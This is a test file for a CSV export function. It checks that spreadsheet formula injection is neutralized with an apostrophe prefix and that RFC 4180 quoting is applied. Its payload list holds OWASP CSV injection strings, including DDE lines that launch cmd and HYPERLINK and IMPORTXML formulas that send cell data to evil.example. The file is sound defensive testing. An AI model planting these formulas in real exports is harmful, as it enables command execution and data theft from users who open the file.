import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCsv } from '../testing/csv.js';
import { answerToCsv, csvField } from './csv.js';

/** CSV injection payloads as OWASP lists them, and variants with quotes, separators and line breaks. */
const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '=1+2";=1+2',
  `=1+2'" ;,=1+2`,
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '@',
  '-',
];

/** Text that starts no formula, and must come back exactly as it was. */
const PLAIN = ['FRA', 'www.example.com', 'a-b', 'x=1', "it's", 'say "hi"', 'a,b', 'line\nbreak', '', ' =1+1'];

const answer = (hosts: string[]) =>
  answerToCsv({
    zone: 'z',
    from: '2026-11-24T00:00:00.000Z',
    to: '2026-11-24T01:00:00.000Z',
    bucket: '1h',
    by: ['status', 'host'],
    rows: hosts.map((host, i) => ({
      t: '2026-11-24T00:00:00.000Z',
      status: 200 + i,
      host,
      requests: i + 1,
      bytes: 0,
      percent: 1.5,
    })),
  });

describe('CSV export of hostile text', () => {
  it("prefixes every OWASP formula payload with ', and a spreadsheet reads it back as that text", () => {
    const [header, ...rows] = parseCsv(answer(PAYLOADS));
    assert.deepEqual(header, ['t', 'status', 'host', 'requests', 'bytes', 'percent']);
    assert.deepEqual(
      rows.map((r) => r[2]),
      PAYLOADS.map((p) => `'${p}`),
    );
    // Every record kept its six fields: quotes, commas and line breaks in a payload stayed inside it.
    for (const row of rows) assert.equal(row.length, 6);
    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
  });

  it('leaves text that starts no formula as it is, quoted where RFC 4180 needs it', () => {
    const [, ...rows] = parseCsv(answer(PLAIN));
    assert.deepEqual(
      rows.map((r) => r[2]),
      PLAIN,
    );
    assert.equal(csvField('a,b'), '"a,b"');
    assert.equal(csvField('say "hi"'), '"say ""hi"""');
    assert.equal(csvField('=1,2'), `"'=1,2"`);
    assert.equal(csvField('=A1'), `'=A1`);
  });

  it('keeps numbers, negative ones too, as numbers; only text is neutralized', () => {
    assert.equal(csvField(-5), '-5');
    assert.equal(csvField(-0.25), '-0.25');
    assert.equal(csvField(1e-7), '1e-7');
    assert.equal(csvField('-5'), "'-5");
    assert.equal(csvField(undefined), '');
    const [, row] = parseCsv(answer(['-1']));
    assert.deepEqual(row, ['2026-11-24T00:00:00.000Z', '200', "'-1", '1', '0', '1.5']);
  });
});
